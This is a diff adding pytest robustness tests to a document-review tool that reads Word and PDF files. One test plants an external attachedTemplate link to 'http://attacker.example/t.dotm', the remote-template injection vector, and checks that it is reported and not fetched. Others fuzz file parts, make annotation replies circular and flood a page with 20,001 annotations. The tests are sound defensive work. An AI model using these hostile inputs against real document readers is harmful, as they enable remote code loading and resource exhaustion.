@@ -3,17 +3,35 @@
 from __future__ import annotations
 
 import io
+import random
 import re
+import time
 import zipfile
+from collections.abc import Iterator
+from contextlib import suppress
 
+import pikepdf
 import pytest
 
 from pressgen.errors import Refused
+from pressgen.review import pdfmarks
 from pressgen.review.reading import read
 from pressgen.review.receiving import proposals
-from review.copies import samples
+from review.copies import printed, samples
+from review.dialects import DIALECTS, written
+from review.editing import Editing
+from review.marking import Marking
 
 BODY = "word/document.xml"
+AT_MOST = 5.0
+"""Seconds of a processor that any file may take."""
+
+
+@pytest.fixture(autouse=True)
+def _bounded_time() -> Iterator[None]:
+    start = time.process_time()
+    yield
+    assert time.process_time() - start < AT_MOST
 
 
 def refusal(data: bytes) -> str:
@@ -97,3 +115,114 @@ def test_a_part_whose_controls_cross_a_change_is_mended_and_no_word_of_it_lost()
     assert "was broken by the program that saved it and has been mended" in file.notices[0]
     (found,) = proposals(copy.blocks, file)
     assert (found.kind, found.after, found.author) == ("edit", "New ", "Ann")
+
+
+def test_a_template_on_another_machine_is_told_and_not_fetched() -> None:
+    rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+    )
+
+    (notice,) = read(with_part("word/_rels/settings.xml.rels", rels), "in.docx").notices
+
+    assert notice == "names a template on another machine; it was not fetched"
+
+
+@pytest.mark.parametrize("part", [BODY, "word/styles.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"])
+def test_a_part_that_breaks_off_is_refused_or_read_without_it(part: str) -> None:
+    with zipfile.ZipFile(io.BytesIO(samples()[0].content)) as archive:
+        whole = archive.read(part)
+
+    damaged = with_part(part, whole[: len(whole) // 2])
+
+    if part == BODY:
+        assert re.search(r" [MW]\d\d ", refusal(damaged))
+    else:
+        with suppress(Refused):
+            read(damaged, "in.docx")
+
+
+def test_whatever_is_damaged_in_a_word_file_it_is_read_or_refused() -> None:
+    chance = random.Random(7)  # noqa: S311 - the same damage each time
+    verdicts = set()
+    for number in range(40):
+        copy = samples()[number % len(samples())]
+        editing = Editing(copy.content, copy.blocks, chance)
+        editing.work(6)
+        content = written(editing, list(DIALECTS.values())[number % 7], chance)
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            name = chance.choice([BODY, *(each for each in archive.namelist() if "omments" in each)])
+            part = bytearray(archive.read(name))
+        if number % 2:
+            values = list(re.finditer(rb'="[^"]*"', bytes(part)))
+            start, end = chance.choice(values).span()
+            part[start:end] = chance.choice([b'=""', b'="-1"', b'="99999999999999999999"', b'="x"'])
+        else:
+            part[chance.randrange(len(part))] = chance.randrange(256)
+        try:
+            proposals(copy.blocks, read(with_part(name, bytes(part), content), "in.docx"))
+            verdicts.add("read")
+        except Refused:
+            verdicts.add("refused")
+
+    assert verdicts == {"read", "refused"}
+
+
+def marked(*broken: object) -> bytes:
+    """A PDF with marks some of whose entries are what they must not be."""
+    one, chance = printed()[0], random.Random(3)  # noqa: S311 - as above
+    data = Marking(one.content, one.found, "acrobat", chance).work(12)
+    with pikepdf.open(io.BytesIO(data)) as file:
+        marks = [each for page in file.pages for each in page.obj.get("/Annots", [])]
+        for at, value in enumerate(broken):
+            for key in ("/Rect", "/QuadPoints", "/CL", "/IRT", "/M", "/T", "/Contents", "/NM", "/Subtype"):
+                marks[at % len(marks)][key] = value
+        out = io.BytesIO()
+        file.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        5, pikepdf.Name.X, pikepdf.Array([1]), pikepdf.Array([pikepdf.Name.Y, 2, 3, 4]), pikepdf.Dictionary(),
+        pikepdf.Array([1e30, -1e30, 9e29, 0]), pikepdf.Array([pikepdf.Array([1])] * 8), "words",
+    ],
+)  # fmt: skip
+def test_a_mark_whose_entries_are_damaged_is_told_all_the_same(value: object) -> None:
+    file = pdfmarks.read_marks(marked(value, value, value), "in.pdf")
+
+    assert len(pdfmarks.proposals(printed()[0].blocks, file)) >= 9
+
+
+def test_marks_that_answer_each_other_in_a_circle_are_told() -> None:
+    with pikepdf.open(io.BytesIO(marked())) as file:
+        one, other, *_ = (each for page in file.pages for each in page.obj.get("/Annots", []) if "/NM" in each)
+        one["/IRT"], other["/IRT"] = other, one
+        out = io.BytesIO()
+        file.save(out)
+
+    found = {each.name: each.answers for each in pdfmarks.read_marks(out.getvalue(), "in.pdf").marks}
+
+    assert any(found.get(answers) == name for name, answers in found.items() if answers)
+
+
+def test_a_pdf_that_breaks_off_anywhere_is_read_or_refused() -> None:
+    whole, chance = marked(), random.Random(5)  # noqa: S311 - as above
+    for _ in range(12):
+        damaged = bytearray(whole[: chance.randrange(len(whole) // 2, len(whole))])
+        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
+        with suppress(Refused):
+            pdfmarks.proposals(printed()[0].blocks, pdfmarks.read_marks(bytes(damaged), "in.pdf"))
+
+
+def test_marks_by_the_ten_thousand_are_refused_at_once() -> None:
+    with pikepdf.open(io.BytesIO(printed()[0].content)) as file:
+        mark = file.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.Highlight, Rect=[0, 0, 9, 9]))
+        file.pages[0].obj["/Annots"] = pikepdf.Array([mark] * 20_001)
+        out = io.BytesIO()
+        file.save(out)
+
+    with pytest.raises(Refused, match="M03 holds more than 20,000 marks"):
+        pdfmarks.read_marks(out.getvalue(), "in.pdf")
